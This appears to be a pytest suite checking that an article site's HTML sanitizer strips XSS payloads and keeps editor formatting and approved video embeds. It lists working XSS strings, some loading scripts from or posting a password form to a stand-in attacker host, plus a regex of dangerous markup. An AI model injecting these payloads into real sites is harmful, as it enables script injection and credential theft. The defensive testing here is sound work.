"""Whatever reaches an article body is stored and shown as safe HTML."""

import re

import pytest

from articles.models import Article
from core.sanitize import clean_article_html as clean_html
from tests.factories import PublishedArticleFactory

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" &#14;javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<iframe src="https://evil.example/embed"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<body onload="alert(1)">text</body>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<div onmouseover="alert(1)">hover</div>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<a href="https://example.org" onclick="alert(1)">ok</a>',
    "<!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]

DANGEROUS = re.compile(
    r"<script|<style|<svg|<math|<object|<embed|<form|<input|<meta|<base|<body|javascript:|data:|\son\w+=|style=|srcdoc|evil\.example",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_known_xss_payloads_come_out_harmless(payload):
    assert not DANGEROUS.search(clean_html(payload))


def test_formatting_an_editor_uses_is_kept():
    html = (
        '<h2>Title</h2><p><strong>Bold</strong>, <em>italic</em> and <a href="https://example.org">link</a></p>'
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>quote</p></blockquote>"
    )
    cleaned = clean_html(html)
    for fragment in [
        "<h2>Title</h2>",
        "<strong>Bold</strong>",
        "<em>italic</em>",
        "<li>one</li>",
        "<blockquote>",
    ]:
        assert fragment in cleaned
    assert 'href="https://example.org"' in cleaned and 'rel="noopener noreferrer"' in cleaned


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ("https://www.youtube-nocookie.com/embed/abc123", "https://www.youtube-nocookie.com/embed/abc123"),
        ("https://www.youtube.com/embed/abc123", "https://www.youtube-nocookie.com/embed/abc123"),
        ("https://player.vimeo.com/video/76979871", "https://player.vimeo.com/video/76979871"),
    ],
)
def test_videos_from_the_allowed_players_are_kept_without_tracking_cookies(source, kept):
    cleaned = clean_html(f'<iframe src="{source}" allowfullscreen></iframe>')
    assert f'src="{kept}"' in cleaned
    assert "sandbox=" in cleaned


@pytest.mark.parametrize(
    "source",
    [
        "http://www.youtube-nocookie.com/embed/abc",  # not https
        "https://www.youtube-nocookie.com.evil.example/embed/abc",
        "https://player.vimeo.com.evil.example/video/1",
        "https://www.youtube-nocookie.com/watch?v=abc",  # not an embeddable page
        "https://evil.example/?https://player.vimeo.com/video/1",
    ],
)
def test_iframes_from_other_places_are_removed_entirely(source):
    assert (
        clean_html(f'<p>before</p><iframe src="{source}"></iframe><p>after</p>')
        == "<p>before</p><p>after</p>"
    )


def test_an_empty_editor_is_stored_as_an_empty_body():
    assert clean_html("<p></p>") == ""
    assert clean_html("<p><br></p>") == ""


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS[:8])
def test_saving_an_article_from_any_path_stores_a_clean_body_in_every_language(payload):
    article = PublishedArticleFactory(body_en=payload, body_zh_hant=payload, body_zh_hans=payload)
    article.refresh_from_db()
    for body in (article.body_en, article.body_zh_hant, article.body_zh_hans):
        assert not DANGEROUS.search(body)


@pytest.mark.django_db
def test_a_body_changed_behind_the_models_back_is_cleaned_again_when_shown(client):
    article = PublishedArticleFactory(slug="sneaky", body_en="<p>fine</p>")
    Article.objects.filter(pk=article.pk).update(body_en='<p>fine</p><img src=x onerror="alert(1)">')
    html = client.get("/en/articles/sneaky/").content.decode()
    assert "onerror" not in html
    assert "<p>fine</p>" in html
